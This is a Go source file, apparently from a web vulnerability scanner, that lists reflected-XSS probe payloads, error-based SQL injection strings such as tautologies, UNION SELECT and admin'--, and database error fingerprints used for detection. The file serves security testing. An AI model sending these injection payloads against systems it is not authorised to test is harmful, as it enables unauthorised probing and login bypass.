package scan

// XSSPayloads is the reflected-XSS probe corpus, tried in order. The first
// entry is the canonical payload used for URL-parameter probes.
var XSSPayloads = []string{
	`<script>alert("XSS")</script>`,
	`"><script>alert("XSS")</script>`,
	`<img src=x onerror=alert("XSS")>`,
	`javascript:alert("XSS")`,
	`<svg onload=alert("XSS")>`,
	`'><img src=x onerror=alert("XSS")>`,
	`<iframe src="javascript:alert('XSS')"></iframe>`,
}

// SQLPayloads is the error-based SQL injection corpus, tried in order.
var SQLPayloads = []string{
	`' OR '1'='1`,
	`' OR 1=1--`,
	`" OR "1"="1`,
	`" OR 1=1--`,
	`' UNION SELECT NULL--`,
	`' UNION SELECT NULL,NULL--`,
	`') OR ('1'='1`,
	`1' ORDER BY 1--`,
	`admin'--`,
	`' OR 'a'='a`,
	`1' AND '1'='1`,
	`'--`,
}

// SQLErrors are the database error fingerprints. A response body containing
// any of these (case-insensitive) is treated as a database error leaking to
// the client.
var SQLErrors = []string{
	"mysql_fetch_array",
	"ORA-",
	"Microsoft OLE DB Provider",
	"PostgreSQL query failed",
	"Warning: mysql_",
	"SQL syntax",
	"mysql_error",
	"valid MySQL result",
	"MySqlClient",
	"syntax error",
}
